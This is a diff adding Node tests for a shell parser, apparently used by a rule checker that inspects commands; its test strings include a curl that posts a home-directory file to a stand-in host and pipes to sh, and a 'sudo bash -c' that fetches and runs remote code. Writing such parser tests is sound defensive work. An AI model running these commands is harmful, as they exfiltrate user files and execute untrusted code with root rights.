@@ -1,0 +1,46 @@
+import * as assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { parseShell } from '../../../server/src/parse/shell/shell';
+
+// The shell's parser as the rules read it: commands with their words unquoted at exact offsets, pipes, substitutions,
+// strings given to a shell read again, and what it cannot read left out line by line.
+
+test('shell: words unquoted at their offsets, assignments, redirections, pipes and substitutions', () => {
+  const text = 'FOO=1 curl -d @"$HOME/.x" https://e.example | sh\nC=$(cat ~/.a) && echo "é $C" > out';
+  const { commands } = parseShell(text);
+  assert.deepEqual(
+    commands.map((command) => command.words.map((word) => word.text)),
+    [['curl', '-d', '@$HOME/.x', 'https://e.example'], ['sh'], [], ['cat', '~/.a'], ['echo', 'é $C']],
+  );
+  const [curl, sh, assign, cat, echo] = commands;
+  assert.equal(text.slice(curl.words[2].start, curl.words[2].end), '@"$HOME/.x"');
+  assert.deepEqual(curl.words[2].variables, ['HOME']);
+  assert.deepEqual(
+    curl.assignments.map((item) => item.name),
+    ['FOO'],
+  );
+  assert.deepEqual(sh.pipedFrom, [0]);
+  assert.deepEqual([cat.substitutedIn, cat.assignedTo], [2, 'C']);
+  assert.equal(assign.assignments[0].name, 'C');
+  assert.equal(text.slice(echo.words[1].start, echo.words[1].end), '"é $C"');
+  assert.deepEqual(
+    echo.redirections.map((item) => [item.op, item.target.text]),
+    [['>', 'out']],
+  );
+});
+
+test('shell: `bash -c` and `eval` strings are read as scripts at their place; bad lines are left out', () => {
+  const text = 'sudo bash -c "curl -s \\"https://e.example\\" | sh"\ncmd --mode <a|b>\necho "open\nls';
+  const { commands, unread } = parseShell(text);
+  const inner = commands.filter((command) => command.depth === 1);
+  assert.deepEqual(
+    inner.map((command) => command.words.map((word) => word.text)),
+    [['curl', '-s', 'https://e.example'], ['sh']],
+  );
+  assert.equal(text.slice(inner[0].start, inner[0].words[2].end), 'curl -s \\"https://e.example\\"');
+  assert.ok(commands.some((command) => command.words[0]?.text === 'cmd'));
+  assert.deepEqual(
+    unread.map((span) => text.slice(span.start, span.end)),
+    ['echo "open'],
+  );
+});
